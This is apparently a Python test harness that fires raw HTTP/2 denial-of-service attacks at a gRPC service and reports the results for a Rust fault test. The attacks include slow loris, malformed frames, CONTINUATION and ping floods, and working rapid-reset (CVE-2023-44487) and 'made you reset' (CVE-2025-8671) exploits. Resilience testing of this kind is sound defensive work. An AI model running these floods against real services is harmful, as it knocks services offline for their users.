"""Attacks on a running service over raw HTTP/2. Each ends with one line of JSON that says what was seen; tests/faults.rs judges it.

usage: attacks.py ATTACK HOST PORT        needs: h2 (for hpack)
"""

import json
import os
import struct
import sys
import time

from wire import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PREFACE, PRIORITY, PUSH_PROMISE,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, Connection, field, frame, goaway, headers, listing, message, setting, statuses,
)

OPEN = END_HEADERS
WHOLE = END_HEADERS | END_STREAM


def slow_loris(host, port):
    """The first bytes, one by one: how many of fifty connections are cut, and after how long."""
    begun = time.monotonic()
    connections = [Connection(host, port, preface=False) for _ in range(50)]
    cut, position = {}, 0
    while len(cut) < len(connections) and time.monotonic() - begun < 15:
        for number, connection in enumerate(connections):
            if number in cut:
                continue
            if not connection.send(PREFACE[position % 20 : position % 20 + 1] if position < 20 else b""):
                cut[number] = time.monotonic() - begun
            elif connection.read_frame(0.001) is None:
                cut[number] = time.monotonic() - begun
        position += 1
        time.sleep(0.2)
    return {"cut": len(cut), "seconds": max(cut.values(), default=None)}


def half_open(host, port):
    """Connections that shake hands and then say nothing: how many are closed, and how."""
    connections = [Connection(host, port) for _ in range(50)]
    ends = [connection.frames(15)[1] for connection in connections]
    return {"closed": ends.count("closed")}


def half_request(host, port):
    """Headers, half a message, and then nothing; with a deadline of a second."""
    connection = Connection(host, port)
    connection.send(frame(HEADERS, OPEN, 1, headers(extra=[("grpc-timeout", "1S")])))
    connection.send(frame(DATA, 0, 1, message(b"", length=5000) + b"x" * 100))
    begun = time.monotonic()
    frames = []
    while 1 not in statuses(frames) and time.monotonic() - begun < 10:
        got = connection.read_frame(1)
        if got is None:
            break
        if got is not ...:
            frames.append(got)
    return {"status": statuses(frames).get(1), "seconds": time.monotonic() - begun}


MALFORMED = {
    "no_http2": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
    "tls_hello": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 600,
    "frame_too_large": PREFACE + frame(SETTINGS) + frame(HEADERS, OPEN, 1, headers()) + frame(DATA, 0, 1, b"x" * 20000),
    "length_lies": PREFACE + frame(SETTINGS) + frame(DATA, 0, 1, b"", length=0xFFFFFF) + b"x" * 70000,
    "headers_on_stream_0": PREFACE + frame(SETTINGS) + frame(HEADERS, WHOLE, 0, headers()),
    "even_stream": PREFACE + frame(SETTINGS) + frame(HEADERS, WHOLE, 2, headers()),
    "data_on_idle_stream": PREFACE + frame(SETTINGS) + frame(DATA, END_STREAM, 5, b"x"),
    "garbage_in_headers": PREFACE + frame(SETTINGS) + frame(HEADERS, WHOLE, 1, b"\xff" * 200),
    "padding_beyond_frame": PREFACE + frame(SETTINGS) + frame(HEADERS, WHOLE | PADDED, 1, b"\xff" + headers()[:20]),
    "continuation_alone": PREFACE + frame(SETTINGS) + frame(CONTINUATION, END_HEADERS, 1, headers()),
    "data_inside_headers": PREFACE + frame(SETTINGS) + frame(HEADERS, 0, 1, headers()) + frame(DATA, 0, 1, b"x"),
    "settings_of_seven_bytes": PREFACE + frame(SETTINGS, payload=b"1234567"),
    "window_beyond_31_bits": PREFACE + frame(SETTINGS, payload=setting(4, 0xFFFFFFFF)),
    "window_overflow": PREFACE + frame(SETTINGS) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2,
    "window_of_zero": PREFACE + frame(SETTINGS) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)),
    "ping_of_four_bytes": PREFACE + frame(SETTINGS) + frame(PING, payload=b"1234"),
    "push_from_client": PREFACE + frame(SETTINGS) + frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + headers()),
    "reset_of_idle_stream": PREFACE + frame(SETTINGS) + frame(RST_STREAM, 0, 9, struct.pack(">I", 8)),
    "stream_depends_on_itself": PREFACE + frame(SETTINGS) + frame(PRIORITY, 0, 1, struct.pack(">IB", 1, 16)) * 200,
    "noise": os.urandom(4096),
    "noise_after_preface": PREFACE + frame(SETTINGS) + os.urandom(4096),
}


def malformed(host, port):
    """What breaks the protocol, one connection each: how each ended."""
    ends = {}
    for name, bytes_ in MALFORMED.items():
        connection = Connection(host, port, preface=False)
        connection.send(bytes_)
        frames, end = connection.frames(3)
        resets = sum(1 for kind, *_ in frames if kind == RST_STREAM)
        ends[name] = {"end": end, "goaway": goaway(frames), "resets": resets, "statuses": list(statuses(frames).values())}
        connection.close()
    return ends


def bad_messages(host, port):
    """Right frames around wrong messages of gRPC: the status of each."""
    right = message(field(1, listing()))
    bodies = {
        "right": right,
        "empty": b"",
        "cut": right[:-3],
        "says_a_gigabyte": message(b"x", length=1 << 30),
        "says_four_gigabytes": message(b"x", length=0xFFFFFFFF),
        "compressed_without_a_word": message(b"x" * 40, compressed=1),
        "flag_of_seven": message(b"x" * 40, compressed=7),
        "no_protobuf": message(b"\xff" * 64),
        "nested_ten_thousand": message(b"\x0b" * 10000),
        "length_beyond_message": message(b"\x0a\xff\xff\xff\xff\x0f"),
        "title_no_utf8": message(field(1, listing(b"\xff\xfe\x80"))),
        "two_messages": right + right,
    }
    found = {}
    for name, body in bodies.items():
        connection = Connection(host, port)
        connection.send(frame(HEADERS, OPEN, 1, headers()) + frame(DATA, END_STREAM, 1, body))
        frames, end = [], "open"
        while 1 not in statuses(frames):
            got = connection.read_frame(5)
            if got is None or got is ...:
                end = "closed" if got is None else "silent"
                break
            frames.append(got)
        found[name] = statuses(frames).get(1, end)
        connection.close()
    return found


def large_headers(host, port):
    """Headers of 64 KiB in frames of the allowed size."""
    connection = Connection(host, port)
    block = headers(extra=[("x-large", "v" * 65536)])
    parts = [block[at : at + 16000] for at in range(0, len(block), 16000)]
    connection.send(frame(HEADERS, END_STREAM, 1, parts[0]))
    for part in parts[1:-1]:
        connection.send(frame(CONTINUATION, 0, 1, part))
    connection.send(frame(CONTINUATION, END_HEADERS, 1, parts[-1]))
    frames, end = connection.frames(3)
    refused = any(kind == RST_STREAM for kind, *_ in frames) or bool(goaway(frames)) or end == "closed"
    answered = any(kind == HEADERS and statuses([one]).get(1) == 0 for one in frames for kind in one[:1])
    return {"refused": refused or not answered, "answered": answered}


def continuation_flood(host, port):
    """Headers that never end: how many CONTINUATION frames are taken."""
    connection = Connection(host, port)
    connection.send(frame(HEADERS, END_STREAM, 1, headers()))
    sent = 0
    while sent < 100_000 and connection.send(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 100):
        sent += 100
    frames, end = connection.frames(3)
    return {"sent": sent, "end": end, "goaway": goaway(frames)}


def rapid_reset(host, port):
    """Calls that are taken back at once (CVE-2023-44487): how many are taken before the connection ends."""
    connection = Connection(host, port)
    block, sent = headers(), 0
    begun = time.monotonic()
    while sent < 50_000:
        burst = b"".join(
            frame(HEADERS, OPEN, 2 * number + 1, block) + frame(RST_STREAM, 0, 2 * number + 1, struct.pack(">I", 8))
            for number in range(sent, sent + 200)
        )
        if not connection.send(burst):
            break
        sent += 200
    frames, end = connection.frames(3)
    return {"sent": sent, "end": end, "goaway": goaway(frames), "seconds": time.monotonic() - begun}


def made_you_reset(host, port):
    """Calls that the service has to reset because they break a rule (CVE-2025-8671)."""
    connection = Connection(host, port)
    block, sent = headers("/dsasignal.v1.ScoringService/StreamScoreListings"), 0
    while sent < 5_000:
        stream = 2 * sent + 1
        if not connection.send(frame(HEADERS, OPEN, stream, block) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))):
            break
        sent += 1
    frames, end = connection.frames(3)
    return {"sent": sent, "end": end, "goaway": goaway(frames)}


def ping_flood(host, port):
    """Pings whose answers nobody reads, for three seconds: how many went through."""
    connection = Connection(host, port, window=4096)
    connection.socket.settimeout(0.5)
    sent, end = 0, time.monotonic() + 3
    while time.monotonic() < end and sent < 5_000_000:
        if not connection.send(frame(PING, payload=b"12345678") * 500):
            break
        sent += 500
    return {"sent": sent}


def settings_flood(host, port):
    """Settings whose acknowledgements nobody reads, for three seconds."""
    connection = Connection(host, port, window=4096)
    connection.socket.settimeout(0.5)
    sent, end = 0, time.monotonic() + 3
    while time.monotonic() < end and sent < 5_000_000:
        if not connection.send(frame(SETTINGS, payload=setting(3, 100)) * 500):
            break
        sent += 500
    return {"sent": sent}


def slow_reader(host, port):
    """Calls whose answers may not be sent because the window is kept at zero: when the connection ends."""
    connection = Connection(host, port, settings=setting(4, 0))
    call = message(field(1, listing()))
    for number in range(200):
        stream = 2 * number + 1
        connection.send(frame(HEADERS, OPEN, stream, headers()) + frame(DATA, END_STREAM, stream, call))
    begun = time.monotonic()
    frames, end = [], "open"
    while time.monotonic() - begun < 15:
        got = connection.read_frame(0.5)
        if got is None:
            end = "closed"
            break
        if got is ...:
            connection.send(frame(PING, payload=b"12345678"))  # alive, and still not reading
            continue
        frames.append(got)
    answers = sum(1 for kind, *_ in frames if kind == HEADERS)
    return {"end": end, "seconds": time.monotonic() - begun, "begun_answers": answers}


def dribble(host, port):
    """A window opened byte by byte, and never far enough: an answer that takes for ever."""
    connection = Connection(host, port, settings=setting(4, 0))
    connection.send(frame(HEADERS, OPEN, 1, headers()) + frame(DATA, END_STREAM, 1, message(field(1, listing()))))
    begun, end = time.monotonic(), "open"
    while end == "open" and time.monotonic() - begun < 15:
        time.sleep(0.2)
        alive = connection.send(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)))
        _, end = connection.frames(0.01) if alive else ([], "closed")
    return {"end": end, "seconds": time.monotonic() - begun}


def main(name, host, port):
    attack = globals().get(name)
    if not callable(attack) or name.startswith("_"):
        sys.exit(f"there is no attack {name}")
    print(json.dumps(attack(host, int(port))))


if __name__ == "__main__":
    main(*sys.argv[1:])
